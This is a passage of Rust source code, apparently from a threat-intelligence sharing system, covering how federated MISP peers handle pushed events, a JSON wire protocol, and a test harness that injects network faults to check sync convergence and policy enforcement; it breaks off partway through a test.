                    (0usize, 0usize, 0usize, 0usize, 0usize);
                for event in events {
                    // Defense in depth: the receiving tenant's own
                    // policy decides what may land, whatever the
                    // sender chose to transmit.
                    let Some(filtered) = self.policy.read().filter_for(&own_org, event) else {
                        rejected += 1;
                        continue;
                    };
                    match sync::apply_remote(&self.api, &filtered, parent) {
                        Ok(ApplyOutcome::Inserted) => inserted += 1,
                        Ok(ApplyOutcome::Merged) => merged += 1,
                        Ok(ApplyOutcome::Unchanged) => unchanged += 1,
                        Ok(ApplyOutcome::Withheld) => withheld += 1,
                        Err(error) => {
                            return FedResponse::Error {
                                message: format!("apply failed: {error}"),
                            }
                        }
                    }
                }
                if let Some(m) = metrics.as_ref() {
                    m.events_inserted.add(inserted as u64);
                    m.events_merged.add(merged as u64);
                    m.events_unchanged.add(unchanged as u64);
                    m.events_rejected.add(rejected as u64);
                    m.withheld_distribution.add(withheld as u64);
                }
                if let Some(span) = span.as_mut() {
                    span.field("inserted", inserted);
                    span.field("unchanged", unchanged);
                }
                FedResponse::Ack {
                    inserted,
                    merged,
                    unchanged,
                    withheld,
                    rejected,
                }
            }
        }
    }

    /// Serves the peer on the multiplexed core, returning the handle
    /// for counters and graceful shutdown. Pair with
    /// `cais_telemetry::RegistryServeMetrics` for `serve_*` metrics.
    ///
    /// # Errors
    ///
    /// Returns the bind error when the address is unavailable.
    pub fn serve_on_core<M: ServeMetrics>(
        &self,
        addr: &str,
        config: ServeConfig,
        metrics: M,
    ) -> io::Result<ServeHandle> {
        serve::serve(addr, config, FedService { peer: self.clone() }, metrics)
    }
}

impl std::fmt::Debug for FederationPeer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FederationPeer")
            .field("org", &self.api.org())
            .field("events", &self.api.store().len())
            .finish()
    }
}

/// The federation protocol as a [`FrameService`]: one request frame in,
/// one response frame out. Undecodable frames (injected garbage) get an
/// [`FedResponse::Error`] reply and the connection stays open — a
/// poisoned frame must not take the link down.
struct FedService {
    peer: FederationPeer,
}

impl FrameService for FedService {
    type Conn = ();

    fn on_connect(&self, _peer: SocketAddr) -> Self::Conn {}

    fn on_frame(
        &self,
        _conn: &mut Self::Conn,
        header: Option<TraceHeader>,
        payload: Vec<u8>,
        out: &mut Outbox,
    ) {
        let wire_trace = header.map(TraceContext::from_header);
        let response = match wire::decode_request(&payload) {
            Ok(request) => self.peer.handle(&request, wire_trace),
            Err(error) => FedResponse::Error {
                message: format!("undecodable frame: {error}"),
            },
        };
        out.push_owned(wire::encode_response(&response));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::{sharing_group_tag, Tenant};
    use cais_misp::event::Distribution;
    use cais_misp::{AttributeCategory, MispAttribute, MispEvent};

    fn policy_with(orgs: &[(&str, &[&str])]) -> Arc<RwLock<SharingPolicy>> {
        let mut policy = SharingPolicy::new();
        for (org, groups) in orgs {
            policy.admit(Tenant::new(*org, groups.iter().copied()));
        }
        Arc::new(RwLock::new(policy))
    }

    fn shared_event(info: &str) -> MispEvent {
        let mut event = MispEvent::new(info);
        event.distribution = Distribution::AllCommunities;
        event.published = true;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{info}.example"),
        ));
        event
    }

    #[test]
    fn push_applies_and_acks() {
        let policy = policy_with(&[("org-a", &[]), ("org-b", &[])]);
        let peer = FederationPeer::new("org-b", policy);
        let request = FedRequest::Push {
            from_org: "org-a".into(),
            events: vec![shared_event("one"), shared_event("two")],
        };
        match peer.handle(&request, None) {
            FedResponse::Ack {
                inserted,
                unchanged,
                rejected,
                ..
            } => {
                assert_eq!(inserted, 2);
                assert_eq!(unchanged, 0);
                assert_eq!(rejected, 0);
            }
            other => panic!("unexpected {other:?}"),
        }
        // Replaying the same frame confirms idempotently.
        match peer.handle(&request, None) {
            FedResponse::Ack {
                inserted,
                unchanged,
                ..
            } => {
                assert_eq!(inserted, 0);
                assert_eq!(unchanged, 2);
            }
            other => panic!("unexpected {other:?}"),
        }
        assert_eq!(peer.api().store().len(), 2);
    }

    #[test]
    fn receiver_rejects_out_of_policy_events() {
        let policy = policy_with(&[("org-b", &["gov"])]);
        let peer = FederationPeer::new("org-b", policy);
        let mut fin_only = shared_event("fin");
        fin_only.add_tag(sharing_group_tag("fin"));
        let request = FedRequest::Push {
            from_org: "org-a".into(),
            events: vec![fin_only, shared_event("open")],
        };
        match peer.handle(&request, None) {
            FedResponse::Ack {
                inserted, rejected, ..
            } => {
                assert_eq!(inserted, 1);
                assert_eq!(rejected, 1);
            }
            other => panic!("unexpected {other:?}"),
        }
        assert_eq!(peer.api().store().len(), 1);
    }

    #[test]
    fn status_reports_store_shape() {
        let policy = policy_with(&[("org-b", &[])]);
        let peer = FederationPeer::new("org-b", policy);
        peer.api().add_event(shared_event("one")).unwrap();
        match peer.handle(&FedRequest::Status, None) {
            FedResponse::Status { org, events, .. } => {
                assert_eq!(org, "org-b");
                assert_eq!(events, 1);
            }
            other => panic!("unexpected {other:?}"),
        }
    }
}
