//! The federation wire protocol: JSON payloads over the shared
//! length-prefixed framing ([`cais_common::frame`]).
//!
//! One request frame carries one [`FedRequest`]; the peer answers with
//! exactly one [`FedResponse`] frame. Push batches are chunked by the
//! client ([`MAX_BATCH`]) so a frame stays far below the 16 MiB cap.
//! Frames may carry a trace header (the `TRACE_FLAG` wire path), which
//! the serving peer turns into the parent context of its apply spans.

use serde::{Deserialize, Serialize};

use cais_misp::event::MispEvent;

/// Maximum events per push frame; senders chunk larger batches.
pub const MAX_BATCH: usize = 256;

/// A request frame from one federation peer to another.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub enum FedRequest {
    /// A batch of policy-filtered, hop-eligible events pushed from
    /// `from_org`. Events carry the sender's *stored* distribution;
    /// the receiver applies the hop downgrade exactly once per frame.
    Push {
        /// The pushing tenant's organization.
        from_org: String,
        /// The batch.
        events: Vec<MispEvent>,
    },
    /// Liveness and progress probe.
    Status,
}

/// A response frame.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub enum FedResponse {
    /// The apply tally for one push frame.
    Ack {
        /// Events inserted for the first time.
        inserted: usize,
        /// Known events that gained attributes/tags/distribution.
        merged: usize,
        /// Known events confirmed unchanged (idempotent re-delivery).
        unchanged: usize,
        /// Events the receiver's own hop gate refused
        /// (`OrganizationOnly` on the wire).
        withheld: usize,
        /// Events the receiver's own tenant policy refused — a leak
        /// attempt by the sender; always zero for a well-behaved peer.
        rejected: usize,
    },
    /// Answer to [`FedRequest::Status`].
    Status {
        /// The serving tenant's organization.
        org: String,
        /// Events stored.
        events: usize,
        /// Store generation.
        generation: u64,
    },
    /// The request could not be served (undecodable frame, apply
    /// error). The connection stays open.
    Error {
        /// Human-readable cause.
        message: String,
    },
}

/// Serializes a request frame payload.
pub fn encode_request(request: &FedRequest) -> Vec<u8> {
    serde_json::to_vec(request).expect("federation request serializes")
}

/// Parses a request frame payload.
///
/// # Errors
///
/// Returns the serde error for undecodable bytes (e.g. an injected
/// garbage frame).
pub fn decode_request(payload: &[u8]) -> Result<FedRequest, serde_json::Error> {
    serde_json::from_slice(payload)
}

/// Serializes a response frame payload.
pub fn encode_response(response: &FedResponse) -> Vec<u8> {
    serde_json::to_vec(response).expect("federation response serializes")
}

/// Parses a response frame payload.
///
/// # Errors
///
/// Returns the serde error for undecodable bytes.
pub fn decode_response(payload: &[u8]) -> Result<FedResponse, serde_json::Error> {
    serde_json::from_slice(payload)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_roundtrip() {
        let request = FedRequest::Push {
            from_org: "org-a".into(),
            events: vec![MispEvent::new("wire event")],
        };
        let decoded = decode_request(&encode_request(&request)).unwrap();
        match decoded {
            FedRequest::Push { from_org, events } => {
                assert_eq!(from_org, "org-a");
                assert_eq!(events.len(), 1);
                assert_eq!(events[0].info, "wire event");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn response_roundtrip() {
        let response = FedResponse::Ack {
            inserted: 1,
            merged: 2,
            unchanged: 3,
            withheld: 0,
            rejected: 0,
        };
        let decoded = decode_response(&encode_response(&response)).unwrap();
        match decoded {
            FedResponse::Ack {
                inserted,
                merged,
                unchanged,
                ..
            } => {
                assert_eq!((inserted, merged, unchanged), (1, 2, 3));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn garbage_fails_to_decode() {
        assert!(decode_request(b"\x00\xffnot json").is_err());
    }
}
