//! The N-instance federation harness: real peers, scripted chaos,
//! provable convergence.
//!
//! [`FederationHarness`] stands up N [`FederationPeer`]s — each a full
//! MISP instance, optionally served as a real framed-TCP endpoint on
//! the multiplexed core — wires them into a [`Topology`], and drives
//! discrete *sync rounds* on the virtual clock. Each round walks the
//! directed edge list in a fixed order; each edge pushes the events
//! that changed since its last acknowledged cursor, policy-filtered
//! for the destination tenant and gated by the `Distribution` hop
//! rules, under a seeded [`FaultPlan`] and a [`RetryPolicy`] whose
//! backoffs land on a [`RecordingSleeper`] (virtual time — chaos runs
//! take milliseconds).
//!
//! # Convergence
//!
//! Delivery is a join: receivers insert unknown events and otherwise
//! union attributes/tags and take the distribution maximum
//! (`cais_misp::store::MispStore::merge_by_uuid`), so re-deliveries
//! confirm instead of mutating. Under *transient* faults (scripted or
//! `fail_first` sites that eventually recover) every edge's cursor
//! reaches its source generation after finitely many rounds, at which
//! point a round performs zero sends and zero failures — quiescence —
//! and the federation is at its policy-filtered fixpoint. The
//! convergence tests assert the fixpoint is *path-independent* by
//! byte-comparing canonical per-tenant views ([`crate::view`]) against
//! a fault-free oracle run of the same schedule.

use std::collections::{BTreeSet, HashMap};
use std::io;
use std::sync::Arc;
use std::time::Duration;

use cais_common::resilience::{
    site_hash, FaultKind, FaultPlan, RecordingSleeper, RetryPolicy, Sleeper, VirtualClock,
};
use cais_common::serve::{NoServeMetrics, ServeConfig, ServeHandle};
use cais_common::Uuid;
use cais_misp::event::MispEvent;
use cais_misp::{sync, MispError};
use cais_telemetry::{Registry, TraceContext, Tracer};
use parking_lot::RwLock;
use rand::rngs::StdRng;
use rand::SeedableRng;

use crate::client::FederationClient;
use crate::metrics::FederationMetrics;
use crate::peer::FederationPeer;
use crate::policy::{SharingPolicy, Tenant};
use crate::topology::{edge_site, Topology};
use crate::view::TenantViewCache;
use crate::wire::{self, FedRequest, FedResponse};

/// Virtual time one sync round advances the harness clock.
pub const ROUND_INTERVAL: Duration = Duration::from_secs(60);

/// How edges carry frames.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Transport {
    /// Real framed TCP through each peer's serving core — the tentpole
    /// path: bytes on sockets, faults on the wire.
    Tcp,
    /// Direct calls into [`FederationPeer::handle`] with the same
    /// fault semantics — the fast oracle path. Oracle and TCP runs
    /// exercise identical apply logic.
    InProc,
}

/// One directed edge's delivery state.
struct EdgeState {
    src: usize,
    dst: usize,
    site: String,
    /// `Some` on TCP edges, `None` in-proc.
    client: Option<FederationClient>,
    /// Last source-store generation fully acknowledged by the
    /// destination. The delta-sync cursor: each round pushes only
    /// events changed past it, and it advances only when every chunk
    /// was acked (or the delta was entirely ineligible).
    cursor: u64,
    /// Per-edge backoff-jitter stream, derived from the fault seed and
    /// the edge site so runs replay byte-identically.
    rng: StdRng,
}

/// Tally of one sync round.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RoundReport {
    /// 1-based round number.
    pub round: u32,
    /// Push frames attempted (including retries).
    pub frames_sent: u64,
    /// Events carried by acknowledged frames.
    pub events_sent: u64,
    /// Receiver tally: first-time inserts.
    pub inserted: u64,
    /// Receiver tally: merges (new attributes/tags/distribution).
    pub merged: u64,
    /// Receiver tally: idempotent confirmations.
    pub unchanged: u64,
    /// Receiver tally: events its own hop gate refused.
    pub withheld: u64,
    /// Receiver tally: events its own policy refused (leak attempts).
    pub rejected: u64,
    /// Events withheld sender-side by tenant policy.
    pub withheld_policy: u64,
    /// Events withheld sender-side by the distribution hop gate.
    pub withheld_distribution: u64,
    /// Frames that failed delivery after the retry budget.
    pub failures: u64,
    /// Retries spent across all edges.
    pub retries: u64,
}

impl RoundReport {
    /// Whether the round proved quiescence: nothing needed sending and
    /// nothing failed. One quiescent round means every edge's cursor
    /// has caught up with its source — the federation is at its
    /// fixpoint.
    pub fn quiescent(&self) -> bool {
        self.frames_sent == 0 && self.failures == 0
    }
}

/// The outcome of [`FederationHarness::run_until_quiescent`].
#[derive(Debug, Clone)]
pub struct ConvergenceReport {
    /// Whether a quiescent round was reached within the budget.
    pub converged: bool,
    /// Rounds driven (the last one is the quiescent round when
    /// `converged`).
    pub rounds_run: u32,
    /// Per-round tallies, in order.
    pub rounds: Vec<RoundReport>,
}

impl ConvergenceReport {
    /// Sum of receiver-side insertions across the run.
    pub fn total_inserted(&self) -> u64 {
        self.rounds.iter().map(|r| r.inserted).sum()
    }

    /// Sum of delivery failures across the run.
    pub fn total_failures(&self) -> u64 {
        self.rounds.iter().map(|r| r.failures).sum()
    }
}

/// N federated MISP instances under one topology, one policy and one
/// fault plan. See the module docs for the convergence argument.
pub struct FederationHarness {
    topology: Topology,
    transport: Transport,
    peers: Vec<FederationPeer>,
    handles: Vec<Option<ServeHandle>>,
    edges: Vec<EdgeState>,
    policy: Arc<RwLock<SharingPolicy>>,
    faults: FaultPlan,
    retry: RetryPolicy,
    sleeper: RecordingSleeper,
    clock: VirtualClock,
    caches: Vec<TenantViewCache>,
    origins: HashMap<Uuid, usize>,
    metrics: Option<FederationMetrics>,
    tracer: Option<Tracer>,
    rounds_driven: u32,
}

impl FederationHarness {
    /// Stands up one peer per tenant, wired by `topology`, with frames
    /// carried by `transport` and chaos drawn from `faults`.
    ///
    /// # Errors
    ///
    /// Returns the bind error when a TCP peer cannot listen (the
    /// in-proc transport cannot fail).
    pub fn new(
        topology: Topology,
        tenants: Vec<Tenant>,
        transport: Transport,
        faults: FaultPlan,
    ) -> io::Result<Self> {
        let n = tenants.len();
        let mut policy = SharingPolicy::new();
        for tenant in &tenants {
            policy.admit(tenant.clone());
        }
        let policy = Arc::new(RwLock::new(policy));
        let peers: Vec<FederationPeer> = tenants
            .iter()
            .map(|t| FederationPeer::new(t.org.clone(), Arc::clone(&policy)))
            .collect();

        let mut handles = Vec::with_capacity(n);
        let mut addrs = Vec::with_capacity(n);
        for peer in &peers {
            match transport {
                Transport::Tcp => {
                    let config = ServeConfig {
                        workers: 1,
                        ..ServeConfig::default()
                    };
                    let handle = peer.serve_on_core("127.0.0.1:0", config, NoServeMetrics)?;
                    addrs.push(Some(handle.local_addr()));
                    handles.push(Some(handle));
                }
                Transport::InProc => {
                    addrs.push(None);
                    handles.push(None);
                }
            }
        }

        let seed = faults.seed();
        let edges = topology
            .edges(n)
            .into_iter()
            .map(|(src, dst)| {
                let site = edge_site(topology, src, dst);
                EdgeState {
                    src,
                    dst,
                    client: addrs[dst].map(|addr| FederationClient::new(addr, peers[src].org())),
                    cursor: 0,
                    rng: StdRng::seed_from_u64(seed ^ site_hash(&site)),
                    site,
                }
            })
            .collect();

        Ok(FederationHarness {
            topology,
            transport,
            peers,
            handles,
            edges,
            policy,
            faults,
            retry: RetryPolicy::fast(3),
            sleeper: RecordingSleeper::new(),
            clock: VirtualClock::new(),
            caches: (0..n).map(|_| TenantViewCache::new()).collect(),
            origins: HashMap::new(),
            metrics: None,
            tracer: None,
            rounds_driven: 0,
        })
    }

    /// A TCP harness: every peer a real endpoint on the serving core.
    ///
    /// # Errors
    ///
    /// Returns the bind error when a peer cannot listen.
    pub fn tcp(topology: Topology, tenants: Vec<Tenant>, faults: FaultPlan) -> io::Result<Self> {
        FederationHarness::new(topology, tenants, Transport::Tcp, faults)
    }

    /// An in-proc harness — the fast oracle path.
    pub fn in_proc(topology: Topology, tenants: Vec<Tenant>, faults: FaultPlan) -> Self {
        FederationHarness::new(topology, tenants, Transport::InProc, faults)
            .expect("in-proc harness binds nothing")
    }

    /// The wiring.
    pub fn topology(&self) -> Topology {
        self.topology
    }

    /// How frames travel.
    pub fn transport(&self) -> Transport {
        self.transport
    }

    /// Number of peers.
    pub fn peer_count(&self) -> usize {
        self.peers.len()
    }

    /// One peer.
    pub fn peer(&self, index: usize) -> &FederationPeer {
        &self.peers[index]
    }

    /// The shared policy handle — mutate it (admit/revoke) mid-run to
    /// exercise membership churn.
    pub fn policy(&self) -> &Arc<RwLock<SharingPolicy>> {
        &self.policy
    }

    /// The fault plan driving this run's chaos.
    pub fn faults(&self) -> &FaultPlan {
        &self.faults
    }

    /// The virtual clock (advanced [`ROUND_INTERVAL`] per round).
    pub fn clock(&self) -> &VirtualClock {
        &self.clock
    }

    /// The virtual sleeper absorbing retry backoffs.
    pub fn sleeper(&self) -> &RecordingSleeper {
        &self.sleeper
    }

    /// Rounds driven so far.
    pub fn rounds_driven(&self) -> u32 {
        self.rounds_driven
    }

    /// Replaces the per-frame retry ladder (default: 3 fast attempts).
    pub fn set_retry(&mut self, retry: RetryPolicy) {
        self.retry = retry;
    }

    /// Attaches the `federation_*` metric family: send-side counters
    /// are tallied by the harness, apply-side counters by each peer
    /// (all peers share the registry's handles, so snapshots aggregate
    /// the whole federation).
    pub fn instrument(&mut self, registry: &Registry) {
        let metrics = FederationMetrics::new(registry);
        metrics.peers.set(self.peers.len() as i64);
        for peer in &self.peers {
            peer.instrument(registry);
        }
        self.metrics = Some(metrics);
    }

    /// Attaches a causal tracer: each push chunk gets a root span whose
    /// context rides the frame's trace header, and receiving peers
    /// chain their apply spans onto it — one trace per cross-peer hop.
    pub fn set_tracer(&mut self, tracer: &Tracer) {
        for peer in &self.peers {
            peer.set_tracer(tracer);
        }
        self.tracer = Some(tracer.clone());
    }

    /// Publishes `event` on `peer` and records the origin for leak
    /// audits. Returns the event's UUID — the federation-wide identity
    /// it converges under.
    ///
    /// # Errors
    ///
    /// Returns the store's validation error.
    pub fn seed_event(&mut self, peer: usize, event: MispEvent) -> Result<Uuid, MispError> {
        let uuid = event.uuid;
        let api = self.peers[peer].api();
        let id = api.add_event(event)?;
        api.publish_event(id)?;
        self.origins.insert(uuid, peer);
        Ok(uuid)
    }

    /// Which peer originated an event seeded through the harness.
    pub fn origin_of(&self, uuid: &Uuid) -> Option<usize> {
        self.origins.get(uuid).copied()
    }

    /// The UUIDs a peer currently stores — the store-diff primitive of
    /// the revocation tests.
    pub fn stored_uuids(&self, peer: usize) -> BTreeSet<Uuid> {
        let mut uuids = BTreeSet::new();
        self.peers[peer].api().store().for_each(|event| {
            uuids.insert(event.uuid);
        });
        uuids
    }

    /// A peer's canonical view of its *own* tenant, through its
    /// generation-guarded byte cache.
    pub fn canonical_view(&self, peer: usize) -> Arc<[u8]> {
        let policy = self.policy.read();
        self.caches[peer].view_bytes(self.peers[peer].api(), &self.peers[peer].org(), &policy)
    }

    /// Every peer's canonical view of its own tenant, in peer order.
    pub fn canonical_views(&self) -> Vec<Arc<[u8]>> {
        (0..self.peers.len())
            .map(|i| self.canonical_view(i))
            .collect()
    }

    /// Whether all peers' canonical views are byte-identical. Only a
    /// meaningful completeness claim when every peer is entitled to
    /// the same content (same groups, hop-reachable events) — the
    /// general proof compares each peer against a fault-free oracle.
    pub fn views_identical(&self) -> bool {
        let views = self.canonical_views();
        views.windows(2).all(|w| w[0] == w[1])
    }

    /// Out-of-policy intelligence stored on any peer: every non-origin
    /// event on a registered tenant must be within that tenant's
    /// policy, attribute by attribute. Returns human-readable
    /// descriptions; an empty vec is the zero-leak assertion.
    ///
    /// Revoked tenants are skipped — they legitimately retain what
    /// they received while admitted; audit them with a
    /// [`FederationHarness::stored_uuids`] diff instead.
    pub fn leaks(&self) -> Vec<String> {
        let policy = self.policy.read();
        let mut leaks = Vec::new();
        for (index, peer) in self.peers.iter().enumerate() {
            let org = peer.org();
            if policy.tenant(&org).is_none() {
                continue;
            }
            peer.api().store().for_each(|event| {
                if self.origins.get(&event.uuid) == Some(&index) {
                    return;
                }
                if !policy.within_policy(&org, event) {
                    leaks.push(format!(
                        "peer {index} ({org}) holds out-of-policy event {} ({:?})",
                        event.uuid, event.info
                    ));
                }
            });
        }
        leaks
    }

    /// Drives one sync round: every edge pushes its delta in the fixed
    /// topology order, under the fault plan and retry ladder. Advances
    /// the virtual clock by [`ROUND_INTERVAL`].
    pub fn run_round(&mut self) -> RoundReport {
        self.clock.advance(ROUND_INTERVAL);
        let round = self.rounds_driven + 1;
        let mut report = RoundReport {
            round,
            ..RoundReport::default()
        };
        let FederationHarness {
            transport,
            peers,
            edges,
            policy,
            faults,
            retry,
            sleeper,
            metrics,
            tracer,
            ..
        } = self;
        for edge in edges.iter_mut() {
            drive_edge(
                edge,
                peers,
                policy,
                faults,
                retry,
                sleeper,
                *transport,
                metrics.as_ref(),
                tracer.as_ref(),
                &mut report,
            );
        }
        self.rounds_driven = round;
        if let Some(m) = self.metrics.as_ref() {
            m.rounds.inc();
        }
        report
    }

    /// Drives rounds until one is quiescent (see
    /// [`RoundReport::quiescent`]) or the budget runs out. On
    /// convergence, `federation_converged_round` records the quiescent
    /// round.
    pub fn run_until_quiescent(&mut self, max_rounds: u32) -> ConvergenceReport {
        let mut rounds = Vec::new();
        for _ in 0..max_rounds {
            let report = self.run_round();
            let quiescent = report.quiescent();
            rounds.push(report);
            if quiescent {
                if let Some(m) = self.metrics.as_ref() {
                    m.converged_round.set(i64::from(self.rounds_driven));
                }
                return ConvergenceReport {
                    converged: true,
                    rounds_run: rounds.len() as u32,
                    rounds,
                };
            }
        }
        ConvergenceReport {
            converged: false,
            rounds_run: max_rounds,
            rounds,
        }
    }

    /// Shuts down every TCP endpoint (idempotent; in-proc is a no-op).
    pub fn shutdown(&mut self) {
        for handle in &mut self.handles {
            if let Some(handle) = handle.take() {
                handle.shutdown();
            }
        }
    }
}

impl Drop for FederationHarness {
    fn drop(&mut self) {
        self.shutdown();
    }
}

impl std::fmt::Debug for FederationHarness {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FederationHarness")
            .field("topology", &self.topology)
            .field("transport", &self.transport)
            .field("peers", &self.peers.len())
            .field("rounds_driven", &self.rounds_driven)
            .finish()
    }
}

/// Pushes one edge's delta for this round. Free function with
/// field-granular parameters so the per-edge RNG, the shared sleeper
/// and the peer list can be borrowed simultaneously.
#[allow(clippy::too_many_arguments)]
fn drive_edge(
    edge: &mut EdgeState,
    peers: &[FederationPeer],
    policy: &Arc<RwLock<SharingPolicy>>,
    faults: &FaultPlan,
    retry: &RetryPolicy,
    sleeper: &RecordingSleeper,
    transport: Transport,
    metrics: Option<&FederationMetrics>,
    tracer: Option<&Tracer>,
    report: &mut RoundReport,
) {
    let src = &peers[edge.src];
    let dst = &peers[edge.dst];
    let src_org = src.org();
    let dst_org = dst.org();
    let store = src.api().store();
    let target_generation = store.generation();
    if target_generation == edge.cursor {
        return;
    }

    // The delta: events changed past the cursor, or a full walk when
    // the change log cannot answer (foreign generation).
    let ids: Vec<u64> = store
        .changed_event_ids_since(edge.cursor)
        .unwrap_or_else(|| store.snapshot().iter().map(|v| v.event.id).collect());

    let mut batch: Vec<MispEvent> = Vec::new();
    {
        let policy = policy.read();
        for id in ids {
            let Some(event) = store.get_arc(id) else {
                continue;
            };
            if !event.published {
                continue;
            }
            if sync::downgrade(event.distribution).is_none() {
                report.withheld_distribution += 1;
                if let Some(m) = metrics {
                    m.withheld_distribution.inc();
                }
                continue;
            }
            // Sender-side policy enforcement: bytes the destination
            // tenant may not see never reach its socket.
            match policy.filter_for(&dst_org, &event) {
                Some(filtered) => batch.push(filtered),
                None => {
                    report.withheld_policy += 1;
                    if let Some(m) = metrics {
                        m.withheld_policy.inc();
                    }
                }
            }
        }
    }

    if batch.is_empty() {
        // The whole delta was ineligible for this destination; the
        // cursor must still advance or the edge re-examines it forever
        // and quiescence is never reached.
        edge.cursor = target_generation;
        return;
    }

    let EdgeState {
        rng, client, site, ..
    } = edge;
    let site: &str = site;
    let mut all_acked = true;
    for chunk in batch.chunks(wire::MAX_BATCH) {
        let mut span = tracer.map(|t| t.root("federation", "fed_push"));
        if let Some(span) = span.as_mut() {
            span.field("site", site);
            span.field("events", chunk.len());
        }
        let trace = span.as_ref().filter(|s| s.sampled()).map(|s| s.context());
        let header = trace.as_ref().and_then(TraceContext::header);

        let outcome = retry.run(rng, sleeper, |_attempt| {
            let fault = faults.next(site);
            if let Some(FaultKind::Delay(ms)) = fault {
                // Injected latency lands on the virtual sleeper; the
                // push itself then proceeds normally.
                sleeper.sleep(Duration::from_millis(u64::from(ms)));
            }
            let fault = match fault {
                Some(FaultKind::Delay(_)) => None,
                other => other,
            };
            match transport {
                Transport::Tcp => client
                    .as_mut()
                    .expect("tcp edge has a client")
                    .push_faulted(fault, header, chunk.to_vec()),
                Transport::InProc => in_proc_push(dst, fault, trace, &src_org, chunk),
            }
        });

        let frames = 1 + u64::from(outcome.retries);
        report.frames_sent += frames;
        report.retries += u64::from(outcome.retries);
        if let Some(m) = metrics {
            m.push_frames.add(frames);
            m.retries.add(u64::from(outcome.retries));
        }
        match outcome.result {
            Ok(FedResponse::Ack {
                inserted,
                merged,
                unchanged,
                withheld,
                rejected,
            }) => {
                report.events_sent += chunk.len() as u64;
                report.inserted += inserted as u64;
                report.merged += merged as u64;
                report.unchanged += unchanged as u64;
                report.withheld += withheld as u64;
                report.rejected += rejected as u64;
                if let Some(m) = metrics {
                    m.events_sent.add(chunk.len() as u64);
                }
            }
            Ok(_) | Err(_) => {
                all_acked = false;
                report.failures += 1;
                if let Some(m) = metrics {
                    m.push_failures.inc();
                }
            }
        }
    }

    if all_acked {
        // Everything up to the pre-gather generation is on the other
        // side; changes landing after the snapshot re-surface next
        // round. A failed chunk keeps the cursor, and the idempotent
        // merge absorbs the overlap on the resend.
        edge.cursor = target_generation;
    }
}

/// The in-proc mirror of [`FederationClient::push_faulted`]: identical
/// fault semantics against [`FederationPeer::handle`] directly, so the
/// oracle transport exercises the same apply logic and the same
/// chaos — minus the sockets.
fn in_proc_push(
    dst: &FederationPeer,
    fault: Option<FaultKind>,
    trace: Option<TraceContext>,
    from_org: &str,
    chunk: &[MispEvent],
) -> io::Result<FedResponse> {
    let deliver = || {
        let request = FedRequest::Push {
            from_org: from_org.to_owned(),
            events: chunk.to_vec(),
        };
        let response = dst.handle(&request, trace);
        match response {
            FedResponse::Error { message } => {
                Err(io::Error::new(io::ErrorKind::InvalidData, message))
            }
            ok => Ok(ok),
        }
    };
    match fault {
        None | Some(FaultKind::Delay(_)) => deliver(),
        Some(FaultKind::Error) => Err(io::Error::new(
            io::ErrorKind::ConnectionReset,
            "injected partition",
        )),
        // Wire parity: a garbage frame never decodes, a truncated frame
        // never fully arrives — in both cases the peer applies nothing.
        Some(FaultKind::Garbage) => Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "injected garbage frame",
        )),
        Some(FaultKind::Truncate) => Err(io::Error::new(
            io::ErrorKind::UnexpectedEof,
            "injected truncation",
        )),
        Some(FaultKind::AckLost) => {
            let _applied_but_unacked = deliver();
            Err(io::Error::new(io::ErrorKind::TimedOut, "injected ack loss"))
        }
        Some(FaultKind::Replay) => {
            deliver()?;
            deliver()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::sharing_group_tag;
    use cais_misp::event::Distribution;
    use cais_misp::{AttributeCategory, MispAttribute};

    fn tenants(n: usize) -> Vec<Tenant> {
        (0..n)
            .map(|i| Tenant::new(format!("org-{i}"), Vec::<String>::new()))
            .collect()
    }

    fn broadcast_event(info: &str) -> MispEvent {
        let mut event = MispEvent::new(info);
        event.distribution = Distribution::AllCommunities;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{info}.example"),
        ));
        event
    }

    #[test]
    fn healthy_mesh_converges_to_identical_views() {
        let mut harness =
            FederationHarness::in_proc(Topology::Mesh, tenants(4), FaultPlan::healthy());
        harness.seed_event(0, broadcast_event("alpha")).unwrap();
        harness.seed_event(2, broadcast_event("beta")).unwrap();
        let report = harness.run_until_quiescent(16);
        assert!(report.converged, "mesh failed to converge: {report:?}");
        assert!(harness.views_identical());
        assert!(harness.leaks().is_empty());
        for peer in 0..4 {
            assert_eq!(harness.stored_uuids(peer).len(), 2);
        }
    }

    #[test]
    fn ring_relays_all_communities_the_long_way() {
        let mut harness =
            FederationHarness::in_proc(Topology::Ring, tenants(5), FaultPlan::healthy());
        harness.seed_event(0, broadcast_event("ring")).unwrap();
        let report = harness.run_until_quiescent(16);
        assert!(report.converged);
        // AllCommunities never decays, so it circles the whole ring.
        assert!(harness.views_identical());
        assert_eq!(report.total_inserted(), 4);
    }

    #[test]
    fn community_only_decays_at_the_hub_and_pins() {
        let mut harness =
            FederationHarness::in_proc(Topology::HubSpoke, tenants(3), FaultPlan::healthy());
        let mut event = broadcast_event("one-hop");
        event.distribution = Distribution::CommunityOnly;
        let uuid = harness.seed_event(1, event).unwrap();
        let report = harness.run_until_quiescent(16);
        assert!(report.converged);
        // Spoke 1 → hub: arrives OrganizationOnly, which the hub's own
        // hop gate then withholds from spoke 2.
        assert!(harness.stored_uuids(0).contains(&uuid));
        assert!(!harness.stored_uuids(2).contains(&uuid));
        let hub_copy = harness
            .peer(0)
            .api()
            .store()
            .get_by_uuid(&uuid)
            .expect("hub stores the event");
        assert_eq!(hub_copy.distribution, Distribution::OrganizationOnly);
    }

    #[test]
    fn transient_partition_heals_and_converges() {
        let site = edge_site(Topology::HubSpoke, 1, 0);
        let faults = FaultPlan::new(11).fail_first(&site, 4, FaultKind::Error);
        let mut harness = FederationHarness::in_proc(Topology::HubSpoke, tenants(3), faults);
        harness.seed_event(1, broadcast_event("late")).unwrap();
